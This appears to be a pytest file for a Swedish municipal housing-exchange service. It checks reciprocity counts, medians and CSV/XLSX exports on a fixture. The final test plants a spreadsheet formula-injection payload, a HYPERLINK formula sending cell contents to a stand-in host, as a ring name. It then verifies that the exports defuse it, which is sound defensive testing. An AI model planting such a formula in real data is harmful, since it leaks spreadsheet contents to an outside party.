"""Tests for sbdesk.services.reciprocity: figures on a fixture with known counts and medians, CSV/XLSX exports."""

from __future__ import annotations

import csv
import json
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from sbdesk.domain.audit import AuditEvent
from sbdesk.domain.enums import MemberRole, ProtectionLevel
from sbdesk.domain.rings import RequestStatus as S
from sbdesk.services import reciprocity as rec
from sbdesk.services import requests as req
from sbdesk.services.cases import create_case
from sbdesk.services.context import ServiceContext
from sbdesk.services.rings import add_member, create_ring

TODAY = date(2027, 1, 10)
D = date.fromisoformat


def _case(ctx: ServiceContext) -> int:
    return create_case(ctx, {"protection_level": ProtectionLevel.NONE, "risk_level": "low", "status": "waiting"},
                       [{"role": MemberRole.APPLICANT, "birth_year": 1985}]).id


def _out(ctx: ServiceContext, code: str, ring: int | None, steps: list[tuple[S, str]], start: str) -> None:
    row = req.create_outgoing(ctx, _case(ctx), code, ring_id=ring, on=D(start), today=TODAY)
    for status, day in steps:
        req.advance(ctx, row.id, status, D(day), reason="Skäl", today=TODAY)


def _in(ctx: ServiceContext, code: str, ring: int | None, received: str, steps: list[tuple[S, str]]) -> None:
    row = req.create_incoming(ctx, {"counterpart_municipality_code": code, "ring_id": ring, "received_on": received},
                              today=TODAY)
    for status, day in steps:
        req.advance(ctx, row.id, status, D(day), reason="Skäl", today=TODAY)


@pytest.fixture
def fixture_ctx(ctx: ServiceContext) -> ServiceContext:
    """Own municipality 1980 Västerås; a county ring and Kompotten; known requests in 2025–2026."""
    county = create_ring(ctx, {"name": "Västmanlands länskompott", "scope": "county"}).id
    national = create_ring(ctx, {"name": "Kompotten", "scope": "national"}).id
    for code, quota in (("1980", 3), ("1984", 2), ("1983", 1)):
        add_member(ctx, county, {"municipality_code": code, "yearly_quota": quota})
    add_member(ctx, county, {"municipality_code": "1981", "yearly_quota": 5, "joined_on": "2020-01-01",
                             "left_on": "2025-06-01"})  # left before the year
    add_member(ctx, county, {"municipality_code": "1982", "yearly_quota": 5, "joined_on": "2027-01-01"})  # after it
    add_member(ctx, national, {"municipality_code": "1980", "yearly_quota": 1})
    add_member(ctx, national, {"municipality_code": "0180", "yearly_quota": 4})
    # outgoing
    _out(ctx, "1984", county, [(S.SENT, "2026-01-10"), (S.ACCEPTED, "2026-01-20"), (S.APARTMENT_FOUND, "2026-02-01"),
                               (S.MOVED, "2026-03-11")], "2026-01-05")
    _out(ctx, "1984", county, [(S.SENT, "2026-02-01"), (S.DECLINED, "2026-02-21")], "2026-02-01")
    _out(ctx, "0180", national, [(S.SENT, "2026-03-01"), (S.ACCEPTED, "2026-03-31"), (S.WITHDRAWN, "2026-04-10")],
         "2026-03-01")
    _out(ctx, "1983", None, [(S.SENT, "2025-12-20"), (S.ACCEPTED, "2026-01-05"), (S.APARTMENT_FOUND, "2026-01-20"),
                             (S.MOVED, "2026-02-18")], "2025-12-19")
    _out(ctx, "1984", county, [], "2026-05-01")  # a draft: never counted
    # incoming
    _in(ctx, "1984", county, "2026-04-01", [(S.ACCEPTED, "2026-04-05"), (S.APARTMENT_FOUND, "2026-05-01"),
                                            (S.MOVED, "2026-06-01")])
    _in(ctx, "0180", national, "2026-05-01", [(S.DECLINED, "2026-05-04")])
    _in(ctx, "1984", county, "2026-11-20", [])
    return ctx


def _figures(row: rec.ReciprocityRow) -> tuple[object, ...]:
    return (row.sent, row.received, row.accepted_by_partner, row.accepted_by_us, row.placed_with_partner,
            row.placed_with_us, row.partner_quota, row.own_quota, row.median_answer_days_outgoing,
            row.median_answer_days_incoming, row.median_moved_days_outgoing, row.median_moved_days_incoming)


def test_partner_figures_for_a_year(fixture_ctx: ServiceContext) -> None:
    report = rec.reciprocity(fixture_ctx, 2026)
    assert [(p.municipality_code, p.name) for p in report.partners] == [
        ("1984", "Arboga"), ("1983", "Köping"), ("0180", "Stockholm")]
    arboga, koping, stockholm = report.partners
    assert _figures(arboga) == (2, 2, 1, 1, 1, 1, 2, None, 15.0, 4.0, 60.0, 61.0)
    assert _figures(koping) == (0, 0, 1, 0, 1, 0, 1, None, 16.0, None, 60.0, None)
    assert _figures(stockholm) == (1, 1, 1, 0, 0, 0, 4, None, 30.0, 3.0, None, None)  # withdrawn after accept


def test_ring_and_total_figures(fixture_ctx: ServiceContext) -> None:
    report = rec.reciprocity(fixture_ctx, 2026)
    assert [r.name for r in report.rings] == ["Kompotten", "Västmanlands länskompott", rec.NO_RING]
    kompotten, county, no_ring = report.rings
    assert _figures(kompotten) == (1, 1, 1, 0, 0, 0, 4, 1, 30.0, 3.0, None, None)
    assert _figures(county) == (2, 2, 1, 1, 1, 1, 3, 3, 15.0, 4.0, 60.0, 61.0)  # 1981 left, 1982 not yet
    assert _figures(no_ring) == (0, 0, 1, 0, 1, 0, None, None, 16.0, None, 60.0, None)
    assert _figures(report.total) == (3, 3, 3, 1, 2, 1, None, 4, 18.0, 3.5, 60.0, 61.0)
    assert report.rows[-1] is report.total and report.total.kind_label == "Totalt"


def test_other_years_count_only_their_own_events(fixture_ctx: ServiceContext) -> None:
    earlier = rec.reciprocity(fixture_ctx, 2025)
    koping = next(p for p in earlier.partners if p.municipality_code == "1983")
    assert _figures(koping) == (1, 0, 0, 0, 0, 0, 1, None, None, None, None, None)
    assert "1981" in {p.municipality_code for p in earlier.partners}  # a member during 2025
    assert _figures(rec.reciprocity(fixture_ctx, 2024).total)[:6] == (0, 0, 0, 0, 0, 0)
    assert rec.request_years(fixture_ctx, TODAY) == [2027, 2026, 2025]


def test_export_csv_reads_back_with_swedish_headers(fixture_ctx: ServiceContext, tmp_path: Path) -> None:
    report = rec.reciprocity(fixture_ctx, 2026)
    path = tmp_path / "omsesidighet.csv"
    assert rec.export_csv(report.rows, path, ctx=fixture_ctx) == len(report.rows)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    lines = list(csv.reader(raw.decode("utf-8-sig").splitlines(), delimiter=";"))
    assert lines[0] == [header for _, header in rec.EXPORT_COLUMNS]
    assert lines[0][:2] == ["Typ", "Kommun eller ring"]
    arboga = lines[1]
    assert arboga[:6] == ["Kommun", "Arboga", "1984", "2026", "2", "2"]
    assert arboga[-4:] == ["15", "4", "60", "61"]
    total = lines[-1]
    assert total[0] == "Totalt" and total[-4:] == ["18", "3,5", "60", "61"]  # decimal comma
    assert lines[3][-2:] == ["", ""]  # Stockholm: no move, blank medians
    with fixture_ctx.read() as s:
        details = s.scalars(select(AuditEvent.details).where(AuditEvent.action == "reciprocity.export")).all()
    assert [json.loads(d or "{}")["format"] for d in details] == ["csv"]


def test_export_xlsx_keeps_numbers_as_numbers(fixture_ctx: ServiceContext, tmp_path: Path) -> None:
    report = rec.reciprocity(fixture_ctx, 2026)
    path = tmp_path / "omsesidighet.xlsx"
    rec.export_xlsx(report.rows, path)
    sheet = load_workbook(path).active
    assert sheet is not None
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == [header for _, header in rec.EXPORT_COLUMNS]
    assert values[1][:8] == ["Kommun", "Arboga", "1984", 2026, 2, 2, 1, 1]
    assert all(isinstance(v, int) for v in values[1][3:11]) and values[1][11] is None
    assert values[-1][-4:] == [18, 3.5, 60, 61]
    assert values[3][-2:] == [None, None]
    assert sheet.title == "Ömsesidighet" and sheet["A1"].font.bold


def test_empty_database_gives_zero_rows_and_blank_medians(ctx: ServiceContext, tmp_path: Path) -> None:
    report = rec.reciprocity(ctx, 2026)
    assert report.partners == [] and report.rings == []
    assert _figures(report.total) == (0, 0, 0, 0, 0, 0, None, None, None, None, None, None)
    rec.export_csv(report.rows, tmp_path / "tom.csv")
    lines = (tmp_path / "tom.csv").read_text(encoding="utf-8-sig").splitlines()
    assert lines[1].endswith(";;;;;;")


def test_exports_never_turn_a_typed_name_into_a_formula(ctx: ServiceContext, tmp_path: Path) -> None:
    ring = create_ring(ctx, {"name": '=HYPERLINK("https://exempel.invalid/?d="&A3,"x")',
                                      "scope": "county"})
    row = req.create_outgoing(ctx, _case(ctx), "1984", ring_id=ring.id, today=date(2026, 3, 2))
    req.send(ctx, row.id, today=date(2026, 3, 2))
    rows = rec.reciprocity(ctx, 2026).rows
    rec.export_xlsx(rows, tmp_path / "r.xlsx")
    rec.export_csv(rows, tmp_path / "r.csv")
    sheet = load_workbook(tmp_path / "r.xlsx").active
    cells = [c for r in sheet.iter_rows() for c in r if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" for c in cells)
    text = (tmp_path / "r.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and ";=HYPERLINK" not in text and '"=HYPERLINK' not in text
